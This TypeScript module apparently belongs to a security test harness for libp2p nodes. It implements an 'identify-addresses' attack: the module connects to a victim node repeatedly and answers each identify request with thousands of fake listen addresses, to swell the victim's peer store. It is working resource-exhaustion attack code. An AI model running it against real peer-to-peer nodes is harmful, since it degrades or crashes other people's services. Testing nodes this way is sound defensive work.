/**
 * Row 2: answers to identify that carry thousands of addresses; the same work for the peer store as
 * those of the DHT.
 */
import type { Attack } from './attack.ts'
import { finding } from './attack.ts'
import { addressBytes } from './dht-addresses.ts'
import { bytesField, delimited } from './protobuf.ts'
import { dial, identifyAs, stranger } from './stranger.ts'
import { pause } from './waiting.ts'

const LISTEN_ADDRESSES = 2
/** Of one answer, in messages of at most 8 KiB. */
const MESSAGES = 10
const ADDRESSES = 600
/** A peer asks who we are on each new connection. */
const CONNECTIONS = 10

export const identifyAddresses: Attack = {
  row: 2,
  name: 'identify-addresses',
  against: ['secret', 'open'],
  async run({ victim, source, pressing }) {
    const libp2p = await stranger(source)
    try {
      const answers = Array.from({ length: CONNECTIONS }, (_, connection) => answerFrom(connection * MESSAGES * ADDRESSES))
      let asked = 0
      await identifyAs(libp2p, () => answers[(asked += 1) % CONNECTIONS] ?? Buffer.alloc(0))
      for (let connection = 0; connection < CONNECTIONS; connection += 1) {
        await dial(libp2p, victim.address, true).catch(() => {})
        await pause(200)
      }
      await pressing()
      await pause(2_000)
      return [finding(true, `asked ${asked} times, ${MESSAGES * ADDRESSES} addresses told each time`)]
    } finally {
      await libp2p.stop()
    }
  },
}

function answerFrom(first: number): Buffer {
  const messages = Array.from({ length: MESSAGES }, (_, message) => {
    const start = first + message * ADDRESSES
    return delimited(...Array.from({ length: ADDRESSES }, (__, index) => bytesField(LISTEN_ADDRESSES, addressBytes(start + index))))
  })
  return Buffer.concat(messages)
}
